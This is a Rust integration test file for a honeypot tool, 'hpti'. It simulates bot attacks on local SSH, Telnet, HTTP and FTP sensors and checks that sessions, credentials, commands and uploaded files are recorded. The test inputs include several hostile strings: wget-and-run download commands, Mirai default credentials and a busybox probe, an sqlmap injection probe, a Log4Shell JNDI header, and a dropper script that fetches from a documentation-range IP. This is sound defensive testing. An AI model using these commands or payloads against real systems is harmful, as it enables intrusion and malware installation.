//! The "done when", end to end: `hpti run`, then OpenSSH's `ssh` (with `sshpass`)
//! and a raw-socket Telnet client use the honeypots, one of them fetching a file from a
//! local HTTP server the config allows; after a clean shutdown `hpti query sessions`,
//! `commands` and `downloads` show what was done, with the file's sha256.

#![allow(clippy::unwrap_used, clippy::expect_used)] // tests panic on failure by design

mod common;

use hpti_core::testing::require_tool;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use sha2::{Digest, Sha256};

fn hpti() -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_hpti"));
    command.env("HPTI_LOG", "info");
    command
}

/// Reads from `stream` until `needle` shows up (bounded), answering Telnet option
/// negotiation as a bot does (telnetd, like the sensor, prompts only a client that
/// answers).
fn read_until(stream: &mut TcpStream, needle: &str) -> String {
    let mut seen = Vec::new();
    let deadline = Instant::now() + Duration::from_secs(20);
    let mut buffer = [0u8; 4096];
    let mut telnet = hpti_sensors::telnet::BotAnswers::default();
    while !String::from_utf8_lossy(&seen).contains(needle) {
        assert!(
            Instant::now() < deadline,
            "no {needle:?} in {:?}",
            String::from_utf8_lossy(&seen)
        );
        match stream.read(&mut buffer) {
            Ok(0) => break,
            Ok(n) => {
                let answer = telnet.feed(&buffer[..n], &mut seen);
                if !answer.is_empty() {
                    stream.write_all(&answer).unwrap();
                }
            }
            Err(e)
                if e.kind() == std::io::ErrorKind::WouldBlock
                    || e.kind() == std::io::ErrorKind::TimedOut => {}
            Err(e) => panic!("{e}"),
        }
    }
    String::from_utf8_lossy(&seen).into_owned()
}

fn query(config: &std::path::Path, what: &str) -> serde_json::Value {
    let output = hpti()
        .arg("--config")
        .arg(config)
        .args(["query", what, "--format", "json"])
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    serde_json::from_slice(&output.stdout).unwrap()
}

#[test]
fn run_then_ssh_and_telnet_then_query_shows_what_was_done() {
    if !require_tool("ssh") || !require_tool("sshpass") {
        return;
    }
    let payload = b"#!/bin/sh\necho fetched-by-the-honeypot\n".to_vec();
    let (_runtime, server) = common::file_server("/x86.sh", payload.clone());

    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("hpti.toml");
    std::fs::write(
        &config,
        format!(
            "[data]\ndir = {:?}\n\n[metrics]\nenabled = false\n\n\
             [sensors.ssh]\ntype = \"ssh\"\nlisten = \"127.0.0.1:0\"\n\n\
             [sensors.telnet]\ntype = \"telnet\"\nlisten = \"127.0.0.1:0\"\nlogin_failure_delay = \"10ms\"\n\n\
             [honeypot.fetch]\nallow = [\"127.0.0.1/32\"]\n",
            dir.path().join("data")
        ),
    )
    .unwrap();
    let mut child = hpti()
        .arg("--config")
        .arg(&config)
        .arg("run")
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut log = BufReader::new(child.stderr.take().unwrap()).lines();
    let (ssh, telnet) = common::ssh_and_telnet(&mut log);
    // Keep draining the log so the child never blocks on a full pipe.
    let drain = std::thread::spawn(move || log.map_while(Result::ok).count());
    let ssh_port = ssh.rsplit(':').next().unwrap().to_owned();

    // OpenSSH: an exec session that downloads a file.
    let url = format!("{}/x86.sh", server.uri());
    let command = format!("cd /tmp; wget {url}; sh x86.sh");
    let output = Command::new("sshpass")
        .args([
            "-p",
            "admin123",
            "ssh",
            "-o",
            "StrictHostKeyChecking=no",
            "-o",
            "UserKnownHostsFile=/dev/null",
        ])
        .args([
            "-o",
            "PubkeyAuthentication=no",
            "-o",
            "LogLevel=ERROR",
            "-p",
            &ssh_port,
        ])
        .args(["root@127.0.0.1", &command])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(
        output.status.success(),
        "{stdout}{}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(
        stdout.contains("fetched-by-the-honeypot"),
        "the fetched script runs in the emulated shell: {stdout}"
    );

    // Telnet, as a Mirai-style bot: raw socket, options refused but NAWS.
    let mut stream = TcpStream::connect(&telnet).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_millis(200)))
        .unwrap();
    read_until(&mut stream, "login: ");
    stream.write_all(b"root\r\n").unwrap();
    read_until(&mut stream, "Password: ");
    stream.write_all(b"vizxv\r\n").unwrap();
    read_until(&mut stream, "# ");
    stream.write_all(b"/bin/busybox ECCHI\r\n").unwrap();
    let answer = read_until(&mut stream, "applet not found");
    assert!(answer.contains("ECCHI: applet not found"), "{answer}");
    stream.write_all(b"exit\r\n").unwrap();
    let _ = read_until(&mut stream, "logout");
    drop(stream);

    // A clean shutdown flushes everything to the store.
    std::thread::sleep(Duration::from_millis(300));
    assert!(
        Command::new("kill")
            .args(["-TERM", &child.id().to_string()])
            .status()
            .unwrap()
            .success()
    );
    assert!(child.wait().unwrap().success());
    drain.join().unwrap();

    let sessions = query(&config, "sessions");
    let protocols: Vec<&str> = sessions
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["protocol"].as_str().unwrap())
        .collect();
    assert_eq!(protocols.len(), 2, "{sessions}");
    assert!(
        protocols.contains(&"ssh") && protocols.contains(&"telnet"),
        "{sessions}"
    );
    assert!(
        sessions
            .as_array()
            .unwrap()
            .iter()
            .all(|s| s["logged_in"] == true),
        "{sessions}"
    );

    let commands = query(&config, "commands").to_string();
    assert!(commands.contains(&command), "{commands}");
    assert!(commands.contains("/bin/busybox ECCHI"), "{commands}");

    let downloads = query(&config, "downloads");
    let sha256 = format!("{:x}", Sha256::digest(&payload));
    assert_eq!(downloads[0]["sha256"], sha256, "{downloads}");
    assert_eq!(downloads[0]["urls"][0], url, "{downloads}");
    assert_eq!(downloads[0]["size"], payload.len(), "{downloads}");
    let stored = dir
        .path()
        .join("data/artifacts")
        .join(&sha256[..2])
        .join(&sha256);
    assert_eq!(std::fs::read(stored).unwrap(), payload);
}

/// Two sensors of one type, each with its own id, port and banner: a real OpenSSH
/// client sees each banner on its port, and each session is stored under its sensor's id.
#[test]
fn two_ssh_sensors_with_different_banners_both_answer_openssh() {
    if !require_tool("ssh") || !require_tool("sshpass") {
        return;
    }
    let banners = [
        ("edge_a", "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u7"),
        ("edge_b", "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.10"),
    ];
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("hpti.toml");
    let mut text = format!(
        "[data]\ndir = {:?}\n\n[metrics]\nenabled = false\n\n",
        dir.path().join("data")
    );
    for (id, banner) in banners {
        text.push_str(&format!(
            "[sensors.{id}]\ntype = \"ssh\"\nlisten = \"127.0.0.1:0\"\nbanner = {banner:?}\n\n"
        ));
    }
    std::fs::write(&config, text).unwrap();
    let mut child = hpti()
        .arg("--config")
        .arg(&config)
        .arg("run")
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut log = BufReader::new(child.stderr.take().unwrap()).lines();
    let mut ports: Vec<(String, String)> = Vec::new();
    while ports.len() < 2 {
        let line = log.next().expect("hpti run logs its listeners").unwrap();
        if !line.contains("SSH honeypot listening on ") {
            continue;
        }
        let addr = line
            .split("listening on ")
            .nth(1)
            .and_then(|rest| rest.split_whitespace().next())
            .unwrap();
        let id = banners
            .iter()
            .map(|(id, _)| *id)
            .find(|id| line.contains(id))
            .unwrap_or_else(|| panic!("the listening line names its sensor: {line}"));
        ports.push((id.to_owned(), addr.rsplit(':').next().unwrap().to_owned()));
    }
    let drain = std::thread::spawn(move || log.map_while(Result::ok).count());

    for (id, port) in &ports {
        let banner = banners.iter().find(|(b, _)| b == id).unwrap().1;
        let output = Command::new("sshpass")
            .args(["-p", "admin123", "ssh", "-v"])
            .args(["-o", "StrictHostKeyChecking=no"])
            .args(["-o", "UserKnownHostsFile=/dev/null"])
            .args(["-o", "PubkeyAuthentication=no"])
            .args(["-p", port, "root@127.0.0.1", "echo answered-by-$(hostname)"])
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(output.status.success(), "{id}: {stderr}");
        assert!(
            String::from_utf8_lossy(&output.stdout).contains("answered-by-"),
            "{id}: the emulated shell answered"
        );
        let software = banner.trim_start_matches("SSH-2.0-");
        assert!(
            stderr.contains(&format!("remote software version {software}")),
            "{id} on port {port} shows its own banner {software:?}: {stderr}"
        );
    }

    std::thread::sleep(Duration::from_millis(300));
    assert!(
        Command::new("kill")
            .args(["-TERM", &child.id().to_string()])
            .status()
            .unwrap()
            .success()
    );
    assert!(child.wait().unwrap().success());
    drain.join().unwrap();

    let sessions = query(&config, "sessions");
    let mut sensors: Vec<&str> = sessions
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["sensor"].as_str().unwrap())
        .collect();
    sensors.sort_unstable();
    assert_eq!(sensors, ["edge_a", "edge_b"], "{sessions}");
    for session in sessions.as_array().unwrap() {
        let id = session["sensor"].as_str().unwrap();
        let banner = banners.iter().find(|(b, _)| *b == id).unwrap().1;
        assert_eq!(session["protocol"], "ssh", "{session}");
        assert!(
            session["client_version"]
                .as_str()
                .is_some_and(|v| v.starts_with("SSH-2.0-OpenSSH")),
            "{session}"
        );
        assert_ne!(
            session["client_version"], banner,
            "the client's version, not ours"
        );
    }
}

fn status_field(pid: u32, field: &str) -> String {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    status
        .lines()
        .find_map(|l| l.strip_prefix(&format!("{field}:")))
        .unwrap_or_else(|| panic!("no {field} in {status}"))
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ")
}

fn id_of(flag: &str, user: &str) -> String {
    let output = Command::new("id").args([flag, user]).output().unwrap();
    assert!(output.status.success(), "no user {user}");
    String::from_utf8_lossy(&output.stdout).trim().to_owned()
}

/// Started as root with `[privileges] user = "nobody"`: the Telnet port below 1024 is
/// bound, then the process is nobody, with no capability left, before any client is
/// read; what it captures is still stored, in a data directory that nobody now owns.
#[test]
fn run_as_root_binds_a_low_port_then_drops_to_the_configured_user() {
    if status_field(std::process::id(), "Uid").split(' ').next() != Some("0") {
        assert!(
            std::env::var("HPTI_REQUIRE_SERVICES").as_deref() != Ok("1"),
            "the privilege drop test must run as root (HPTI_REQUIRE_SERVICES=1)"
        );
        eprintln!("\n*** SKIPPED: the privilege drop test needs root ***\n");
        return;
    }
    let (uid, gid) = (id_of("-u", "nobody"), id_of("-g", "nobody"));
    let dir = tempfile::tempdir().unwrap();
    // nobody must reach the data directory inside the test's private one.
    std::fs::set_permissions(
        dir.path(),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    let port = (700..1000)
        .find(|p| std::net::TcpListener::bind(("127.0.0.1", *p)).is_ok())
        .expect("a free port below 1024");
    let config = dir.path().join("hpti.toml");
    std::fs::write(
        &config,
        format!(
            "[data]\ndir = {:?}\n\n[metrics]\nenabled = false\n\n[privileges]\nuser = \"nobody\"\n\n[sensors.telnet]\ntype = \"telnet\"\nlisten = \"127.0.0.1:{port}\"\n",
            dir.path().join("data")
        ),
    )
    .unwrap();
    let mut child = hpti()
        .arg("--config")
        .arg(&config)
        .arg("run")
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut log = BufReader::new(child.stderr.take().unwrap()).lines();
    let mut seen = Vec::new();
    while !seen.iter().any(|l: &String| l.contains("hpti is running")) {
        let line = log
            .next()
            .unwrap_or_else(|| panic!("hpti run stopped: {seen:#?}"))
            .unwrap();
        seen.push(line);
    }
    assert!(
        seen.iter().any(|l| l.contains("dropped root privileges")),
        "{seen:#?}"
    );
    let drain = std::thread::spawn(move || log.map_while(Result::ok).count());
    let pid = child.id();
    assert_eq!(status_field(pid, "Uid"), format!("{uid} {uid} {uid} {uid}"));
    assert_eq!(status_field(pid, "Gid"), format!("{gid} {gid} {gid} {gid}"));
    assert_eq!(status_field(pid, "Groups"), gid);
    for caps in ["CapInh", "CapPrm", "CapEff", "CapAmb"] {
        assert_eq!(status_field(pid, caps), "0000000000000000", "{caps}");
    }

    // A bot logs in on the low port; its session is stored by the unprivileged process.
    let mut stream = TcpStream::connect(("127.0.0.1", port)).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_millis(200)))
        .unwrap();
    read_until(&mut stream, "login: ");
    stream.write_all(b"root\r\n").unwrap();
    read_until(&mut stream, "Password: ");
    stream.write_all(b"vizxv\r\n").unwrap();
    read_until(&mut stream, "# ");
    stream.write_all(b"echo dropped-$((6*7))\r\n").unwrap();
    read_until(&mut stream, "dropped-42");
    stream.write_all(b"exit\r\n").unwrap();
    let _ = read_until(&mut stream, "logout");
    drop(stream);
    std::thread::sleep(Duration::from_millis(300));
    assert!(
        Command::new("kill")
            .args(["-TERM", &pid.to_string()])
            .status()
            .unwrap()
            .success()
    );
    assert!(child.wait().unwrap().success());
    drain.join().unwrap();
    let db = dir.path().join("data/hpti.db");
    assert_eq!(
        std::os::unix::fs::MetadataExt::uid(&std::fs::metadata(&db).unwrap()).to_string(),
        uid
    );
    let commands = query(&config, "commands");
    assert!(
        commands.to_string().contains("dropped-"),
        "the session was stored: {commands}"
    );
}

/// The HTTP and FTP sensors through `hpti run` (issue 15's "done when"): a WordPress
/// login from curl, a Basic-auth login on a router persona (by virtual host), an sqlmap
/// probe, a Log4Shell header and an lftp `put`. After a clean shutdown `hpti query
/// credentials` lists the three logins, `hpti query commands` the two attacks with their
/// labels, `hpti query downloads` the uploaded file by its SHA-256 and name, and
/// `hpti query sessions` the connections.
#[test]
fn run_then_web_and_ftp_attacks_then_query_shows_logins_commands_and_uploads() {
    if !require_tool("curl") || !require_tool("lftp") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("hpti.toml");
    std::fs::write(
        &config,
        format!(
            "[data]\ndir = {:?}\n\n[metrics]\nenabled = false\n\n\
             [sensors.web]\ntype = \"http\"\nlisten = \"127.0.0.1:0\"\napp = \"wordpress\"\n\
             apps = [{{ app = \"router\", host = \"192.168.0.1\" }}]\n\n\
             [sensors.ftp]\ntype = \"ftp\"\nlisten = \"127.0.0.1:0\"\n",
            dir.path().join("data")
        ),
    )
    .unwrap();
    let mut child = hpti()
        .arg("--config")
        .arg(&config)
        .arg("run")
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut log = BufReader::new(child.stderr.take().unwrap()).lines();
    let (mut web, mut ftp) = (None, None);
    while web.is_none() || ftp.is_none() {
        let line = log.next().expect("hpti run logs its listeners").unwrap();
        let address = || {
            line.split("listening on ")
                .nth(1)
                .map(|rest| rest.split_whitespace().next().unwrap().to_owned())
        };
        if line.contains("HTTP honeypot listening") {
            web = address();
        } else if line.contains("FTP honeypot listening") {
            ftp = address();
        }
    }
    let (web, ftp) = (web.unwrap(), ftp.unwrap());
    let drain = std::thread::spawn(move || log.map_while(Result::ok).count());
    let curl = |args: &[&str]| {
        let output = Command::new("curl")
            .args(["-s", "-o", "/dev/null", "-w", "%{http_code}"])
            .args(args)
            .output()
            .unwrap();
        String::from_utf8_lossy(&output.stdout).into_owned()
    };
    // WordPress's login form, as a browser posts it: refused with WordPress's page.
    assert_eq!(
        curl(&[
            "-d",
            "log=admin&pwd=Summer2024!&wp-submit=Log+In",
            &format!("http://{web}/wp-login.php"),
        ]),
        "200"
    );
    // The router persona on its virtual host: Basic auth refused.
    assert_eq!(
        curl(&[
            "-u",
            "admin:password1",
            "-H",
            "Host: 192.168.0.1",
            &format!("http://{web}/"),
        ]),
        "401"
    );
    // sqlmap's boolean probe and a Log4Shell header.
    curl(&[
        "-A",
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        &format!("http://{web}/?p=1%27%20AND%203617%3D3617%20AND%20%27a%27%3D%27a"),
    ]);
    curl(&[
        "-H",
        "X-Api-Version: ${jndi:ldap://203.0.113.5:1389/Basic/Command/Base64/aWQ=}",
        &format!("http://{web}/"),
    ]);
    // An FTP upload, as a bot's script drives lftp.
    let payload = b"#!/bin/sh\ncd /tmp && wget http://203.0.113.9/x86 && chmod +x x86\n";
    std::fs::write(dir.path().join("miner.sh"), payload).unwrap();
    let (host, port) = ftp.rsplit_once(':').unwrap();
    let lftp = Command::new("lftp")
        .args([
            "-c",
            &format!(
                "set net:max-retries 1; set net:timeout 10; set ftp:ssl-allow no; \
                 open -u root,hunter2 -p {port} {host}; put miner.sh; bye"
            ),
        ])
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert!(
        lftp.status.success(),
        "lftp: {}",
        String::from_utf8_lossy(&lftp.stderr)
    );

    std::thread::sleep(Duration::from_millis(300));
    assert!(
        Command::new("kill")
            .args(["-TERM", &child.id().to_string()])
            .status()
            .unwrap()
            .success()
    );
    assert!(child.wait().unwrap().success());
    drain.join().unwrap();

    let credentials = query(&config, "credentials");
    let mut pairs: Vec<(String, String)> = credentials
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            (
                c["username"].as_str().unwrap().to_owned(),
                c["password"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    pairs.sort();
    assert_eq!(
        pairs,
        vec![
            ("admin".to_owned(), "Summer2024!".to_owned()),
            ("admin".to_owned(), "password1".to_owned()),
            ("root".to_owned(), "hunter2".to_owned()),
        ],
        "{credentials}"
    );

    // The two attacks are commands, with what the classifier said of them; the plain
    // requests (the logins) are not.
    let commands = query(&config, "commands");
    let labels_of = |command: &str| -> Option<Vec<String>> {
        commands.as_array().unwrap().iter().find_map(|c| {
            (c["command"] == command).then(|| {
                c["labels"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .map(|l| l.as_str().unwrap().to_owned())
                    .collect()
            })
        })
    };
    assert_eq!(
        labels_of("GET /?p=1%27%20AND%203617%3D3617%20AND%20%27a%27%3D%27a"),
        Some(vec!["scanner:sqlmap".to_owned(), "sqli".to_owned()]),
        "{commands}"
    );
    assert!(
        labels_of("GET /").is_some_and(|labels| labels.contains(&"log4shell".to_owned())),
        "{commands}"
    );
    assert_eq!(labels_of("POST /wp-login.php"), None, "{commands}");
    // The FTP session's commands are there too, without labels.
    assert_eq!(labels_of("STOR miner.sh"), Some(vec![]), "{commands}");

    // The upload is a captured file: its SHA-256, the name it was given, who sent it.
    let downloads = query(&config, "downloads");
    let sha256 = format!("{:x}", <sha2::Sha256 as sha2::Digest>::digest(payload));
    let upload = downloads
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["sha256"] == sha256.as_str())
        .unwrap_or_else(|| panic!("the upload is listed: {downloads}"));
    assert_eq!(upload["count"], 1, "{upload}");
    assert_eq!(upload["uploads"], 1, "{upload}");
    assert_eq!(upload["size"], payload.len(), "{upload}");
    // The path in the fake file system: root's home, where the login put it.
    assert_eq!(
        upload["filenames"],
        serde_json::json!(["/root/miner.sh"]),
        "{upload}"
    );
    assert_eq!(
        upload["src_ips"],
        serde_json::json!(["127.0.0.1"]),
        "{upload}"
    );

    let sessions = query(&config, "sessions");
    let protocols: Vec<&str> = sessions
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["protocol"].as_str().unwrap())
        .collect();
    assert_eq!(
        protocols.iter().filter(|p| **p == "http").count(),
        4,
        "{sessions}"
    );
    assert_eq!(
        protocols.iter().filter(|p| **p == "ftp").count(),
        1,
        "{sessions}"
    );

    // The labels, as stored.
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    let docs: Vec<String> = runtime.block_on(async {
        let url = format!("sqlite://{}", dir.path().join("data/hpti.db").display());
        let pool = sqlx::SqlitePool::connect(&url).await.unwrap();
        sqlx::query_scalar("SELECT doc FROM events WHERE kind = 'http.request'")
            .fetch_all(&pool)
            .await
            .unwrap()
    });
    assert_eq!(docs.len(), 4, "{docs:?}");
    let labelled = |needle: &str, label: &str| {
        docs.iter().any(|doc| {
            let doc: serde_json::Value = serde_json::from_str(doc).unwrap();
            doc.to_string().contains(needle)
                && doc["data"]["labels"]
                    .as_array()
                    .is_some_and(|labels| labels.iter().any(|l| l == label))
        })
    };
    assert!(labelled("sqlmap", "sqli"), "{docs:?}");
    assert!(labelled("sqlmap", "scanner:sqlmap"), "{docs:?}");
    assert!(labelled("jndi:ldap", "log4shell"), "{docs:?}");
}
